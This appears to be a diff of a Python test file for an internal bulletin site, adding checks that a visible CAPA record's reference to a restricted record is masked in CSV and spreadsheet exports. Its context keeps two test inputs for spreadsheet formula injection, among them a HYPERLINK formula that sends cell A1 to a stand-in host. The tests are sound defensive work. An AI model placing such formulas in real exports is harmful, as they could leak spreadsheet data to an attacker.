@@ -21,6 +21,7 @@ SITE_URL = "http://bulletin.example.internal/"
 HOSTILE_TITLE = '=HYPERLINK("http://evil.invalid/?x="&A1,"点此查看")'
 HOSTILE_NAME = "-陈静+1"
 HIDDEN_IDS = {"MTG-2025-006", "CAPA-2026-003", "NTC-2026-004", "CMP-2026-003", "EXT-2026-002", "EXT-2026-008"}
+HIDDEN_REF = "一条受限记录（无权查看）"
 TYPES = ("meeting", "notice", "capa", "report", "complaint", "nc", "survey", "memo", "contact")
 # capa.csv as it was before the label columns: its header and the cells of one row, byte for byte
 OLD_CAPA_HEADER = ("id,title,department,visibility,tags,related,former_ids,source,source_ref,customer,opened_on,due,"
@@ -168,6 +169,12 @@ def test_hidden_records_are_not_in_the_all_staff_exports(site, repo, tmp_path_fa
         return found
 
     assert not ids(site) & HIDDEN_IDS
+    # a visible record's reference to a hidden one reads as the site's words for it, in both files
+    head, *rows = _csv(site, "capa")
+    assert dict(zip(head, next(r for r in rows if r[0] == "CAPA-2026-002")))["related"] == HIDDEN_REF
+    ws = _sheet(site, "capa")
+    related = [c.value for c in ws[1]].index("相关记录")
+    assert next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] == "CAPA-2026-002")[related] == HIDDEN_REF
     restricted = _build(repo, "site-restricted", {"BULLETIN_CACHE_DIR": str(tmp_path_factory.mktemp("cache-c"))},
                         audience="restricted")
     assert HIDDEN_IDS <= ids(restricted)
